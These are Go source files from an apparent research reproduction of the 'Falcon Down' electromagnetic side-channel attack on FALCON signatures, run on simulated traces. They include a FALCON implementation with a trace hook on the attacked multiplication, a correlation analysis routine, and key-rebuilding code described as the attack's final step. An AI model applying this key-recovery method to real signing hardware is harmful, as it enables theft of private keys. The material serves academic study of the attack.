func NTTvsFFT(s Setup) (*NTTvsFFTResult, error) {
	r := rng.New(s.Seed)
	secret := uint16(1 + r.Intn(ntt.Q-1))
	u := uint16(r.Intn(ntt.Q))

	eng := cpa.NewEngine(ntt.Q)
	h := make([]float64, ntt.Q)
	res := &NTTvsFFTResult{NoiseSigma: s.NoiseSigma}
	noise := rng.New(s.Seed + 1)
	step := s.Traces / 200
	if step < 1 {
		step = 1
	}
	for i := 0; i < s.Traces; i++ {
		v := uint16(r.Intn(ntt.Q))
		steps := ntt.ButterflySteps(u, v, secret)
		// The probe sees the modular product's Hamming weight.
		t := float64(bits.OnesCount32(steps[0])) + s.NoiseSigma*noise.NormFloat64()
		for hyp := 0; hyp < ntt.Q; hyp++ {
			h[hyp] = float64(bits.OnesCount32(uint32(v) * uint32(hyp) % ntt.Q))
		}
		eng.Update(h, t)
		if (i+1)%step == 0 && res.NTTTraces == 0 {
			corr := eng.Corr()
			thr := cpa.Threshold9999(i + 1)
			best := cpa.TopK(corr, 2)
			if best[0].Index == int(secret) && best[0].Corr > thr && best[0].Corr-best[1].Corr > 0.01 {
				res.NTTTraces = i + 1
			}
		}
	}
	res.NTTCorrAtFull = eng.Corr()[secret]

	// The FFT side: the hardest component's trace count from Table 1.
	rows, err := Table1TracesToSignificance(s)
	if err != nil {
		return nil, err
	}
	for _, row := range rows {
		if row.TracesToSignificance > res.FFTTraces {
			res.FFTTraces = row.TracesToSignificance
		}
	}
	return res, nil
}
