package experiments

import (
	"fmt"
	"io"
	"strings"

	"falcondown/internal/core"
	"falcondown/internal/emleak"
	"falcondown/internal/fpr"
)

// Fig3Region labels a span of trace samples with the micro-operation it
// covers, mirroring the black dashed annotations of the paper's Fig. 3.
type Fig3Region struct {
	Label      string
	Start, End int // sample range [Start, End)
}

// Fig3Result is one captured EM trace of a single floating-point
// multiplication, with the mantissa / exponent / sign regions annotated.
type Fig3Result struct {
	Samples []float64
	Regions []Fig3Region
	// Value is the secret coefficient whose multiplication was captured.
	Value fpr.FPR
}

// Fig3ExampleTrace reproduces Fig. 3: one EM measurement covering one
// floating-point multiplication of the targeted FFT(c)⊙FFT(f), annotated
// with which samples hold the mantissa partial products and additions,
// the exponent addition, and the sign computation.
func Fig3ExampleTrace(s Setup) (*Fig3Result, error) {
	v, err := newVictim(s)
	if err != nil {
		return nil, err
	}
	obs, err := emleak.NewCampaign(v.dev, s.Seed+2).CollectCoefficient(1, s.Coeff)
	if err != nil {
		return nil, err
	}
	// One multiplication window (the primary window of the Re part).
	slot := core.PartRe.PrimaryWindow()
	start := slot * emleak.OpsPerMul
	window := obs[0].Trace.Samples[start : start+emleak.OpsPerMul]
	regions := []Fig3Region{
		{"mantissa partial products (B×D, A×D, B×C, A×C)", 0, 4},
		{"mantissa intermediate additions", 4, 7},
		{"mantissa rounding", 7, 8},
		{"exponent addition", 8, 9},
		{"sign computation", 9, 10},
		{"result write-back", 10, 11},
	}
	return &Fig3Result{
		Samples: append([]float64(nil), window...),
		Regions: regions,
		Value:   fpr.FPR(v.truth(s.Coeff, core.PartRe)),
	}, nil
}

// Render draws the trace as an ASCII plot with region annotations, the
// text-mode analogue of the paper's oscilloscope screenshot.
func (f *Fig3Result) Render(w io.Writer) error {
	const height = 12
	lo, hi := f.Samples[0], f.Samples[0]
	for _, v := range f.Samples {
		if v < lo {
			lo = v
		}
		if v > hi {
			hi = v
		}
	}
	if hi == lo {
		hi = lo + 1
	}
	grid := make([][]byte, height)
	for r := range grid {
		grid[r] = []byte(strings.Repeat(" ", 4*len(f.Samples)))
	}
	for i, v := range f.Samples {
		row := int((v - lo) / (hi - lo) * float64(height-1))
		grid[height-1-row][4*i+1] = '*'
	}
	if _, err := fmt.Fprintf(w, "EM trace of one FP multiplication (secret %#x)\n", uint64(f.Value)); err != nil {
		return err
	}
	for _, row := range grid {
		if _, err := fmt.Fprintf(w, "|%s\n", row); err != nil {
			return err
		}
	}
	if _, err := fmt.Fprintf(w, "+%s\n", strings.Repeat("-", 4*len(f.Samples))); err != nil {
		return err
	}
	for _, r := range f.Regions {
		if _, err := fmt.Fprintf(w, "  samples %2d..%2d : %s\n", r.Start, r.End-1, r.Label); err != nil {
			return err
		}
	}
	return nil
}
