package falcon

import (
	"bytes"
	"math"
	"testing"

	"falcondown/internal/codec"
	"falcondown/internal/fpr"
	"falcondown/internal/ntt"
	"falcondown/internal/rng"
)

func TestParamsReproduceSpecValues(t *testing.T) {
	p512 := MustParams(512)
	if math.Abs(p512.Sigma-165.7366171829776) > 1e-9 {
		t.Errorf("sigma512 = %.10f", p512.Sigma)
	}
	if math.Abs(p512.SigmaMin-1.2778336969128337) > 1e-11 {
		t.Errorf("sigmamin512 = %.10f", p512.SigmaMin)
	}
	if p512.BoundSq != 34034726 {
		t.Errorf("beta²(512) = %d, want 34034726", p512.BoundSq)
	}
	if p512.SigByteLen != 666 {
		t.Errorf("sigbytelen(512) = %d", p512.SigByteLen)
	}
	p1024 := MustParams(1024)
	if math.Abs(p1024.Sigma-168.38857144654395) > 1e-9 {
		t.Errorf("sigma1024 = %.10f", p1024.Sigma)
	}
	if math.Abs(p1024.SigmaMin-1.298280334344292) > 1e-11 {
		t.Errorf("sigmamin1024 = %.10f", p1024.SigmaMin)
	}
	if p1024.BoundSq != 70265242 {
		t.Errorf("beta²(1024) = %d, want 70265242", p1024.BoundSq)
	}
	if p1024.SigByteLen != 1280 {
		t.Errorf("sigbytelen(1024) = %d", p1024.SigByteLen)
	}
}

func TestParamsRejectBadDegrees(t *testing.T) {
	for _, n := range []int{0, 1, 3, 100, 2048} {
		if _, err := ParamsForDegree(n); err == nil {
			t.Errorf("degree %d accepted", n)
		}
	}
}

func TestSignVerifyRoundTrip(t *testing.T) {
	r := rng.New(1)
	for _, n := range []int{8, 16, 32, 64} {
		priv, pub, err := GenerateKey(n, r)
		if err != nil {
			t.Fatalf("n=%d keygen: %v", n, err)
		}
		for i := 0; i < 5; i++ {
			msg := []byte{byte(n), byte(i), 'm', 's', 'g'}
			sig, err := priv.Sign(msg, r)
			if err != nil {
				t.Fatalf("n=%d sign: %v", n, err)
			}
			if err := pub.Verify(msg, sig); err != nil {
				t.Fatalf("n=%d verify: %v", n, err)
			}
		}
	}
}

func TestSignVerify128(t *testing.T) {
	r := rng.New(2)
	priv, pub, err := GenerateKey(128, r)
	if err != nil {
		t.Fatalf("keygen: %v", err)
	}
	msg := []byte("falcon-128 message")
	sig, err := priv.Sign(msg, r)
	if err != nil {
		t.Fatalf("sign: %v", err)
	}
	if err := pub.Verify(msg, sig); err != nil {
		t.Fatalf("verify: %v", err)
	}
}

func TestSignVerify512(t *testing.T) {
	if testing.Short() {
		t.Skip("FALCON-512 end-to-end in -short mode")
	}
	r := rng.New(3)
	priv, pub, err := GenerateKey(512, r)
	if err != nil {
		t.Fatalf("keygen: %v", err)
	}
	msg := []byte("the full FALCON-512 parameter set")
	sig, err := priv.Sign(msg, r)
	if err != nil {
		t.Fatalf("sign: %v", err)
	}
	if err := pub.Verify(msg, sig); err != nil {
		t.Fatalf("verify: %v", err)
	}
	// Encoded signature must be exactly the spec's 666 bytes.
	enc, err := sig.Encode(priv.Params.LogN, priv.Params.SigByteLen)
	if err != nil {
		t.Fatalf("encode: %v", err)
	}
	if len(enc) != 666 {
		t.Fatalf("encoded length %d", len(enc))
	}
	dec, err := DecodeSignature(enc, priv.Params.LogN, priv.Params.SigByteLen)
	if err != nil {
		t.Fatalf("decode: %v", err)
	}
	if err := pub.Verify(msg, dec); err != nil {
		t.Fatalf("verify decoded: %v", err)
	}
}

func TestVerifyRejectsTamperedMessage(t *testing.T) {
	r := rng.New(4)
	priv, pub, err := GenerateKey(64, r)
	if err != nil {
		t.Fatal(err)
	}
	msg := []byte("authentic")
	sig, err := priv.Sign(msg, r)
	if err != nil {
		t.Fatal(err)
	}
	if err := pub.Verify([]byte("forgery!!"), sig); err == nil {
		t.Fatal("tampered message accepted")
	}
	// Tampered s2.
	bad := &Signature{Salt: sig.Salt, S2: append([]int16(nil), sig.S2...)}
	bad.S2[0] += 500
	bad.S2[1] -= 500
	if err := pub.Verify(msg, bad); err == nil {
		t.Fatal("tampered s2 accepted")
	}
	// Tampered salt.
	bad2 := &Signature{Salt: append([]byte(nil), sig.Salt...), S2: sig.S2}
	bad2.Salt[0] ^= 1
	if err := pub.Verify(msg, bad2); err == nil {
		t.Fatal("tampered salt accepted")
	}
	// Malformed shapes.
	if err := pub.Verify(msg, &Signature{Salt: sig.Salt[:10], S2: sig.S2}); err == nil {
		t.Fatal("short salt accepted")
	}
	if err := pub.Verify(msg, &Signature{Salt: sig.Salt, S2: sig.S2[:32]}); err == nil {
		t.Fatal("short s2 accepted")
	}
}

func TestSignatureInvariant(t *testing.T) {
	// s1 + s2·h == c mod q: the defining property of Algorithm 2.
	r := rng.New(5)
	priv, _, err := GenerateKey(64, r)
	if err != nil {
		t.Fatal(err)
	}
	msg := []byte("invariant")
	sig, err := priv.Sign(msg, r)
	if err != nil {
		t.Fatal(err)
	}
	c := codec.HashToPoint(sig.Salt, msg, 64)
	s2h := ntt.MulModQ(ntt.FromSigned(sig.S2), priv.H)
	s1 := ntt.SubModQ(c, s2h)
	// The recomputed s1 must be short (it equals the signer's s1).
	var norm int64
	for _, v := range s1 {
		cv := int64(ntt.Center(v))
		norm += cv * cv
	}
	if norm > priv.Params.BoundSq {
		t.Fatalf("recomputed s1 norm %d too large", norm)
	}
}

func TestSignTracedRecordsTargetOnly(t *testing.T) {
	r := rng.New(6)
	priv, pub, err := GenerateKey(16, r)
	if err != nil {
		t.Fatal(err)
	}
	var rec fpr.SliceRecorder
	sig, err := priv.SignWithOptions([]byte("traced"), r, SignOptions{Recorder: &rec})
	if err != nil {
		t.Fatal(err)
	}
	if err := pub.Verify([]byte("traced"), sig); err != nil {
		t.Fatalf("traced signature invalid: %v", err)
	}
	// The targeted product is n/2 complex multiplications = 2n real
	// multiplications; each may retry across signing attempts, so the
	// count must be a positive multiple of one pass.
	var ll int
	for _, op := range rec.Ops {
		if op == fpr.OpMulLL {
			ll++
		}
	}
	perPass := 4 * 16 / 2
	if ll == 0 || ll%perPass != 0 {
		t.Fatalf("B×D records = %d, want positive multiple of %d", ll, perPass)
	}
}

func TestFixedSaltDeterministicHash(t *testing.T) {
	r := rng.New(7)
	priv, pub, err := GenerateKey(16, r)
	if err != nil {
		t.Fatal(err)
	}
	salt := bytes.Repeat([]byte{0xAB}, codec.SaltLen)
	sig, err := priv.SignWithOptions([]byte("m"), r, SignOptions{FixedSalt: salt})
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(sig.Salt, salt) {
		t.Fatal("fixed salt not honored")
	}
	if err := pub.Verify([]byte("m"), sig); err != nil {
		t.Fatal(err)
	}
}

func TestNewPrivateKeyFromElements(t *testing.T) {
	r := rng.New(8)
	priv, pub, err := GenerateKey(32, r)
	if err != nil {
		t.Fatal(err)
	}
	rebuilt, err := NewPrivateKey(32, priv.Fs, priv.Gs, priv.F, priv.G)
	if err != nil {
		t.Fatalf("rebuild: %v", err)
	}
	for i := range pub.H {
		if rebuilt.H[i] != pub.H[i] {
			t.Fatal("rebuilt public key differs")
		}
	}
	sig, err := rebuilt.Sign([]byte("rebuilt"), r)
	if err != nil {
		t.Fatal(err)
	}
	if err := pub.Verify([]byte("rebuilt"), sig); err != nil {
		t.Fatalf("signature from rebuilt key rejected: %v", err)
	}
}

func TestNewPrivateKeyRejectsBadElements(t *testing.T) {
	r := rng.New(9)
	priv, _, err := GenerateKey(16, r)
	if err != nil {
		t.Fatal(err)
	}
	badF := append([]int16(nil), priv.F...)
	badF[0]++
	if _, err := NewPrivateKey(16, priv.Fs, priv.Gs, badF, priv.G); err == nil {
		t.Fatal("corrupted F accepted")
	}
}

func TestPublicKeyCodecRoundTrip(t *testing.T) {
	r := rng.New(10)
	priv, pub, err := GenerateKey(64, r)
	if err != nil {
		t.Fatal(err)
	}
	enc := codec.EncodePublicKey(pub.H, priv.Params.LogN)
	dec, err := codec.DecodePublicKey(enc, priv.Params.LogN)
	if err != nil {
		t.Fatal(err)
	}
	for i := range dec {
		if dec[i] != pub.H[i] {
			t.Fatal("public key round trip mismatch")
		}
	}
}

func TestSecretKeyCodecRoundTrip(t *testing.T) {
	r := rng.New(11)
	priv, _, err := GenerateKey(32, r)
	if err != nil {
		t.Fatal(err)
	}
	enc, err := codec.EncodeSecretKey(priv.Fs, priv.Gs, priv.F, priv.Params.LogN)
	if err != nil {
		t.Fatal(err)
	}
	f, g, F, err := codec.DecodeSecretKey(enc, priv.Params.LogN)
	if err != nil {
		t.Fatal(err)
	}
	for i := range f {
		if f[i] != priv.Fs[i] || g[i] != priv.Gs[i] || F[i] != priv.F[i] {
			t.Fatal("secret key round trip mismatch")
		}
	}
}

func TestSignatureNormsAreTight(t *testing.T) {
	// Signature norms should concentrate well below β² (quality check on
	// the sampler/tree): E‖s‖² ≈ 2n·σ².
	r := rng.New(12)
	priv, _, err := GenerateKey(64, r)
	if err != nil {
		t.Fatal(err)
	}
	p := priv.Params
	var worst int64
	for i := 0; i < 10; i++ {
		sig, err := priv.Sign([]byte{byte(i)}, r)
		if err != nil {
			t.Fatal(err)
		}
		c := codec.HashToPoint(sig.Salt, []byte{byte(i)}, p.N)
		s1 := ntt.SubModQ(c, ntt.MulModQ(ntt.FromSigned(sig.S2), priv.H))
		var norm int64
		for _, v := range s1 {
			cv := int64(ntt.Center(v))
			norm += cv * cv
		}
		for _, v := range sig.S2 {
			norm += int64(v) * int64(v)
		}
		if norm > worst {
			worst = norm
		}
	}
	expected := 2 * float64(p.N) * p.Sigma * p.Sigma
	if float64(worst) > 2*expected {
		t.Fatalf("worst norm %d far above expectation %.0f", worst, expected)
	}
}

func BenchmarkSign64(b *testing.B) {
	r := rng.New(13)
	priv, _, err := GenerateKey(64, r)
	if err != nil {
		b.Fatal(err)
	}
	msg := []byte("bench")
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := priv.Sign(msg, r); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkVerify64(b *testing.B) {
	r := rng.New(14)
	priv, pub, err := GenerateKey(64, r)
	if err != nil {
		b.Fatal(err)
	}
	msg := []byte("bench")
	sig, err := priv.Sign(msg, r)
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := pub.Verify(msg, sig); err != nil {
			b.Fatal(err)
		}
	}
}

func TestSignVerify1024(t *testing.T) {
	if testing.Short() {
		t.Skip("FALCON-1024 end-to-end in -short mode")
	}
	r := rng.New(1024)
	priv, pub, err := GenerateKey(1024, r)
	if err != nil {
		t.Fatalf("keygen: %v", err)
	}
	msg := []byte("the category-5 parameter set")
	sig, err := priv.Sign(msg, r)
	if err != nil {
		t.Fatalf("sign: %v", err)
	}
	if err := pub.Verify(msg, sig); err != nil {
		t.Fatalf("verify: %v", err)
	}
	enc, err := sig.Encode(priv.Params.LogN, priv.Params.SigByteLen)
	if err != nil {
		t.Fatal(err)
	}
	if len(enc) != 1280 {
		t.Fatalf("encoded length %d, want 1280", len(enc))
	}
}

func TestSignaturesDifferPerCall(t *testing.T) {
	// Fresh salts make signatures on the same message differ.
	r := rng.New(20)
	priv, pub, err := GenerateKey(16, r)
	if err != nil {
		t.Fatal(err)
	}
	msg := []byte("same message")
	a, err := priv.Sign(msg, r)
	if err != nil {
		t.Fatal(err)
	}
	b, err := priv.Sign(msg, r)
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Equal(a.Salt, b.Salt) {
		t.Fatal("salts repeated")
	}
	if err := pub.Verify(msg, a); err != nil {
		t.Fatal(err)
	}
	if err := pub.Verify(msg, b); err != nil {
		t.Fatal(err)
	}
}

func TestCrossKeyRejection(t *testing.T) {
	r := rng.New(21)
	priv1, _, err := GenerateKey(32, r)
	if err != nil {
		t.Fatal(err)
	}
	_, pub2, err := GenerateKey(32, r)
	if err != nil {
		t.Fatal(err)
	}
	msg := []byte("cross")
	sig, err := priv1.Sign(msg, r)
	if err != nil {
		t.Fatal(err)
	}
	if err := pub2.Verify(msg, sig); err == nil {
		t.Fatal("signature accepted under the wrong public key")
	}
}
