package falcon

import (
	"errors"
	"fmt"

	"falcondown/internal/codec"
	"falcondown/internal/ffsamp"
	"falcondown/internal/fft"
	"falcondown/internal/fpr"
	"falcondown/internal/ntru"
	"falcondown/internal/ntt"
	"falcondown/internal/rng"
	"falcondown/internal/samplerz"
)

// PrivateKey holds the NTRU trapdoor and the precomputed signing data
// (the FFT-domain basis B̂ and the ffLDL tree T of Algorithm 1).
type PrivateKey struct {
	Params *Params
	F, G   []int16 // solved NTRU pair (capital letters as in the spec)
	Fs, Gs []int16 // sampled small elements f, g
	H      []uint16

	fFFT, gFFT []fft.Cplx // FFT of f and g
	FFFT, GFFT []fft.Cplx // FFT of F and G
	tree       *ffsamp.Tree
}

// PublicKey is the verification key h = g·f⁻¹ mod q.
type PublicKey struct {
	Params *Params
	H      []uint16
}

// Signature is a decoded FALCON signature: the salt r and the compressed
// second short vector s2 (s1 is recomputed during verification).
type Signature struct {
	Salt []byte
	S2   []int16
}

// ErrSigningFailed reports that signing did not converge (it practically
// cannot happen with correct parameters).
var ErrSigningFailed = errors.New("falcon: signing did not converge")

// ErrVerify reports a signature that fails verification.
var ErrVerify = errors.New("falcon: invalid signature")

// GenerateKey creates a FALCON key pair of degree n using randomness from
// rnd. It runs NTRUGen and precomputes the FFT basis and ffLDL tree.
func GenerateKey(n int, rnd *rng.Xoshiro) (*PrivateKey, *PublicKey, error) {
	params, err := ParamsForDegree(n)
	if err != nil {
		return nil, nil, err
	}
	key, err := ntru.Generate(n, rnd)
	if err != nil {
		return nil, nil, err
	}
	priv := &PrivateKey{
		Params: params,
		F:      key.F, G: key.G,
		Fs: key.Fs, Gs: key.Gs,
		H: key.H,
	}
	priv.precompute()
	return priv, &PublicKey{Params: params, H: key.H}, nil
}

// NewPrivateKey rebuilds a private key (including B̂ and the tree) from the
// four NTRU elements — the final step of the key-recovery attack.
func NewPrivateKey(n int, f, g, F, G []int16) (*PrivateKey, error) {
	params, err := ParamsForDegree(n)
	if err != nil {
		return nil, err
	}
	if !ntru.VerifyEquation(f, g, F, G) {
		return nil, errors.New("falcon: fG − gF != q")
	}
	finv, ok := ntt.InvModQ(ntt.FromSigned(f))
	if !ok {
		return nil, errors.New("falcon: f not invertible mod q")
	}
	priv := &PrivateKey{
		Params: params,
		F:      F, G: G, Fs: f, Gs: g,
		H: ntt.MulModQ(ntt.FromSigned(g), finv),
	}
	priv.precompute()
	return priv, nil
}

// precompute builds the FFT images of the basis and the normalized ffLDL
// tree (Algorithm 1, lines 2–9).
func (priv *PrivateKey) precompute() {
	priv.fFFT = fft.FFTInt16(priv.Fs)
	priv.gFFT = fft.FFTInt16(priv.Gs)
	priv.FFFT = fft.FFTInt16(priv.F)
	priv.GFFT = fft.FFTInt16(priv.G)
	g00, g01, g11 := ffsamp.GramOfBasis(priv.fFFT, priv.gFFT, priv.FFFT, priv.GFFT)
	priv.tree = ffsamp.BuildTree(g00, g01, g11, fpr.FromFloat64(priv.Params.Sigma))
}

// Public returns the corresponding public key.
func (priv *PrivateKey) Public() *PublicKey {
	return &PublicKey{Params: priv.Params, H: priv.H}
}

// FFTOfF exposes FFT(f), the secret the side-channel attack reconstructs;
// the experiment harness uses it as ground truth.
func (priv *PrivateKey) FFTOfF() []fft.Cplx {
	out := make([]fft.Cplx, len(priv.fFFT))
	copy(out, priv.fFFT)
	return out
}

// SignOptions controls signing internals for experiments.
type SignOptions struct {
	// Recorder, when non-nil, observes every floating-point micro-operation
	// of the targeted multiplication FFT(c)⊙FFT(f) (and nothing else),
	// mirroring what the EM probe sees in the paper.
	Recorder fpr.Recorder
	// FixedSalt forces a deterministic salt (experiments only).
	FixedSalt []byte
}

// Sign produces a signature for msg (Algorithm 2).
func (priv *PrivateKey) Sign(msg []byte, rnd *rng.Xoshiro) (*Signature, error) {
	return priv.SignWithOptions(msg, rnd, SignOptions{})
}

// SignWithOptions is Sign with experiment hooks.
func (priv *PrivateKey) SignWithOptions(msg []byte, rnd *rng.Xoshiro, opt SignOptions) (*Signature, error) {
	p := priv.Params
	sp := samplerz.New(rnd, p.SigmaMin)
	invQ := fpr.Div(fpr.One, fpr.FromInt64(Q))

	for attempt := 0; attempt < 64; attempt++ {
		salt := make([]byte, codec.SaltLen)
		if opt.FixedSalt != nil {
			copy(salt, opt.FixedSalt)
		} else {
			rnd.Bytes(salt)
		}
		c := codec.HashToPoint(salt, msg, p.N)
		cFFT := fft.FFTUint16Centered(c)

		// t = (−1/q·FFT(c)⊙FFT(F), 1/q·FFT(c)⊙FFT(f)) — Algorithm 2 line 3.
		// The second product is the attacked computation: the adversary
		// knows FFT(c) and observes the multiplier's EM emanations.
		cF := fft.MulVec(cFFT, priv.FFFT)
		cf := fft.MulVecTraced(cFFT, priv.fFFT, opt.Recorder)
		t0 := fft.ScaleVec(fft.NegVec(cF), invQ)
		t1 := fft.ScaleVec(cf, invQ)

		for inner := 0; inner < 16; inner++ {
			z0, z1 := priv.tree.Sample(t0, t1, sp)
			// s = (t − z)·B̂ with B = [[g, −f], [G, −F]].
			d0 := fft.SubVec(t0, z0)
			d1 := fft.SubVec(t1, z1)
			sA := fft.AddVec(fft.MulVec(d0, priv.gFFT), fft.MulVec(d1, priv.GFFT))
			sB := fft.NegVec(fft.AddVec(fft.MulVec(d0, priv.fFFT), fft.MulVec(d1, priv.FFFT)))

			s1i := roundedInts(sA)
			s2i := roundedInts(sB)
			if sqNorm(s1i)+sqNorm(s2i) > p.BoundSq {
				continue
			}
			if _, err := codec.Compress(s2i, p.SigByteLen-codec.SaltLen-1); err != nil {
				continue // ⊥: retry with fresh randomness
			}
			return &Signature{Salt: salt, S2: s2i}, nil
		}
	}
	return nil, ErrSigningFailed
}

// roundedInts converts an FFT-domain vector back to rounded integer
// coefficients.
func roundedInts(v []fft.Cplx) []int16 {
	f := fft.InvFFT(v)
	out := make([]int16, len(f))
	for i, x := range f {
		out[i] = int16(fpr.Rint(x))
	}
	return out
}

func sqNorm(v []int16) int64 {
	var s int64
	for _, x := range v {
		s += int64(x) * int64(x)
	}
	return s
}

// Verify checks sig against msg: recompute c, derive s1 = c − s2·h mod q
// (centered), and test ‖(s1, s2)‖² ≤ β².
func (pub *PublicKey) Verify(msg []byte, sig *Signature) error {
	p := pub.Params
	if len(sig.Salt) != codec.SaltLen || len(sig.S2) != p.N {
		return fmt.Errorf("%w: malformed signature", ErrVerify)
	}
	c := codec.HashToPoint(sig.Salt, msg, p.N)
	s2q := ntt.FromSigned(sig.S2)
	s1q := ntt.SubModQ(c, ntt.MulModQ(s2q, pub.H))
	var norm int64
	for _, v := range s1q {
		cv := int64(ntt.Center(v))
		norm += cv * cv
	}
	norm += sqNorm(sig.S2)
	if norm > p.BoundSq {
		return fmt.Errorf("%w: norm %d exceeds bound %d", ErrVerify, norm, p.BoundSq)
	}
	return nil
}

// EncodeSignature serializes sig as header byte ‖ salt ‖ compressed s2.
func (sig *Signature) Encode(logn, sigByteLen int) ([]byte, error) {
	body, err := codec.Compress(sig.S2, sigByteLen-codec.SaltLen-1)
	if err != nil {
		return nil, err
	}
	out := make([]byte, 0, sigByteLen)
	out = append(out, 0x30|byte(logn))
	out = append(out, sig.Salt...)
	out = append(out, body...)
	return out, nil
}

// DecodeSignature reverses Encode.
func DecodeSignature(b []byte, logn, sigByteLen int) (*Signature, error) {
	if len(b) != sigByteLen {
		return nil, fmt.Errorf("%w: signature length %d", codec.ErrDecode, len(b))
	}
	if b[0] != 0x30|byte(logn) {
		return nil, fmt.Errorf("%w: signature header %#x", codec.ErrDecode, b[0])
	}
	s2, err := codec.Decompress(b[1+codec.SaltLen:], 1<<logn)
	if err != nil {
		return nil, err
	}
	return &Signature{Salt: append([]byte(nil), b[1:1+codec.SaltLen]...), S2: s2}, nil
}
