// Package falcon implements the FALCON hash-and-sign lattice signature
// scheme over Z[x]/(x^n+1), q = 12289: parameter derivation, key
// generation (via the NTRU solver and the ffLDL tree), signing (hash to
// point, Fourier-domain trapdoor sampling, rejection on the norm bound,
// Golomb–Rice compression) and verification.
//
// The signing path exposes a trace hook on the coefficient-wise
// floating-point multiplication FFT(c)⊙FFT(f) — the operation attacked by
// "Falcon Down" (DAC 2021) — so that the emleak package can turn a real
// signing run into synthetic electromagnetic measurements.
package falcon

import (
	"fmt"
	"math"
	"math/bits"

	"falcondown/internal/ntt"
)

// Q is FALCON's modulus.
const Q = ntt.Q

// Params holds the derived parameters of one FALCON instance.
type Params struct {
	LogN       int     // log2 of the ring degree
	N          int     // ring degree (512 or 1024 for the standard sets)
	Sigma      float64 // signing Gaussian standard deviation
	SigmaMin   float64 // smallest admissible leaf deviation
	BoundSq    int64   // β²: squared norm acceptance bound
	SigByteLen int     // total signature byte length (header + salt + s)
}

// sigByteLens is the reference signature byte length per degree (matching
// the FALCON submission's table; 666 bytes for FALCON-512, 1280 for
// FALCON-1024).
var sigByteLens = map[int]int{
	2: 44, 4: 47, 8: 52, 16: 63, 32: 82, 64: 122,
	128: 200, 256: 356, 512: 666, 1024: 1280,
}

// ParamsForDegree derives the parameter set for ring degree n (a power of
// two, 2..1024). σ follows the specification:
//
//	σ = 1.17·√q · (1/π)·√(ln(4n(1+1/ε))/2),  ε = 1/√(2^64·λ)
//
// with λ = 128 bits of target security below n=1024 and λ = 256 at n=1024;
// σ_min = σ/(1.17·√q) and β² = ⌊(1.1·σ·√(2n))²⌋. These reproduce the
// published FALCON-512 values (σ = 165.736617…, σ_min = 1.277833…,
// β² = 34034726) exactly.
func ParamsForDegree(n int) (*Params, error) {
	if n < 2 || n > 1024 || n&(n-1) != 0 {
		return nil, fmt.Errorf("falcon: unsupported degree %d", n)
	}
	lambda := 128.0
	if n >= 1024 {
		lambda = 256
	}
	eps := 1 / math.Sqrt(math.Ldexp(lambda, 64))
	eta := (1 / math.Pi) * math.Sqrt(math.Log(4*float64(n)*(1+1/eps))/2)
	sigma := 1.17 * math.Sqrt(Q) * eta
	sigmaMin := eta
	beta := 1.1 * sigma * math.Sqrt(2*float64(n))
	return &Params{
		LogN:       bits.Len(uint(n)) - 1,
		N:          n,
		Sigma:      sigma,
		SigmaMin:   sigmaMin,
		BoundSq:    int64(beta * beta),
		SigByteLen: sigByteLens[n],
	}, nil
}

// MustParams is ParamsForDegree for known-good degrees; it panics on error.
func MustParams(n int) *Params {
	p, err := ParamsForDegree(n)
	if err != nil {
		panic(err)
	}
	return p
}
