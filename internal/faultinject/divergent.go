package faultinject

import (
	"fmt"

	"falcondown/internal/emleak"
	"falcondown/internal/fft"
	"falcondown/internal/rng"
	"falcondown/internal/tracestore"
)

// DivergentStore wraps a trace source, silently rewriting a deterministic
// subset of its observations. The output is *well-formed wrong bytes*:
// written back to disk it re-checksums cleanly, opens cleanly, and has the
// right shape — exactly the replica a wrong acquisition seed, a stale
// resume, or a silent rewrite produces. Nothing short of content
// addressing (shard digests) or cross-checked computation catches it,
// which is what the cluster integrity suite uses it to prove: CRC framing
// alone would fold these bytes into the recovered key without a whisper.
//
// The perturbation for observation idx depends only on (Seed, idx), so a
// divergent replica is itself reproducible.
type DivergentStore struct {
	inner tracestore.Source
	// Seed drives the perturbation schedule.
	Seed uint64
	// Fraction is the per-observation probability of perturbation.
	Fraction float64
}

// NewDivergentStore wraps src so that about fraction of its observations
// come back subtly wrong, deterministically in (seed, index).
func NewDivergentStore(src tracestore.Source, seed uint64, fraction float64) *DivergentStore {
	return &DivergentStore{inner: src, Seed: seed, Fraction: fraction}
}

// N returns the wrapped campaign's ring degree.
func (d *DivergentStore) N() int { return d.inner.N() }

// Count returns the wrapped campaign's observation count.
func (d *DivergentStore) Count() int { return d.inner.Count() }

// Iterate starts a pass whose perturbations land on the same indices as
// every other pass of this store.
func (d *DivergentStore) Iterate() (tracestore.Iterator, error) {
	it, err := d.inner.Iterate()
	if err != nil {
		return nil, err
	}
	return &divergentIterator{inner: it, seed: d.Seed, fraction: d.Fraction}, nil
}

type divergentIterator struct {
	inner    tracestore.Iterator
	seed     uint64
	fraction float64
	idx      uint64
}

func (it *divergentIterator) Next() (emleak.Observation, error) {
	o, err := it.inner.Next()
	if err != nil {
		return o, err
	}
	i := it.idx
	it.idx++
	r := rng.New(rng.DeriveSeed(it.seed, i))
	if it.fraction > 0 && r.Float64() < it.fraction && len(o.Trace.Samples) > 0 {
		// Copy before touching anything: the inner iterator may hand out
		// views into its decode buffer, and a divergent replica must not
		// corrupt the authentic source it was derived from.
		samples := append([]float64(nil), o.Trace.Samples...)
		o.CFFT = append([]fft.Cplx(nil), o.CFFT...)
		o.Trace = emleak.Trace{Samples: samples}
		// A small additive offset on one sample — no saturation, no NaN,
		// nothing a sanity gate would flag; just quietly wrong.
		s := r.Intn(len(o.Trace.Samples))
		o.Trace.Samples[s] += 0.25 + r.Float64()
	}
	return o, nil
}

func (it *divergentIterator) Close() error { return it.inner.Close() }

// WriteDivergentReplica materializes a divergent copy of corpus at path:
// every observation streams through a DivergentStore and is rewritten
// with the given writer options. The result opens cleanly and passes all
// CRC checks — only its content digests betray it.
func WriteDivergentReplica(src tracestore.Source, path string, seed uint64, fraction float64, opts tracestore.Options) error {
	div := NewDivergentStore(src, seed, fraction)
	w, err := tracestore.NewWriter(path, src.N(), opts)
	if err != nil {
		return err
	}
	it, err := div.Iterate()
	if err != nil {
		return err
	}
	defer it.Close()
	for i := 0; i < div.Count(); i++ {
		o, err := it.Next()
		if err != nil {
			return fmt.Errorf("faultinject: divergent replica: %w", err)
		}
		if err := w.Append(o); err != nil {
			return err
		}
	}
	return w.Close()
}
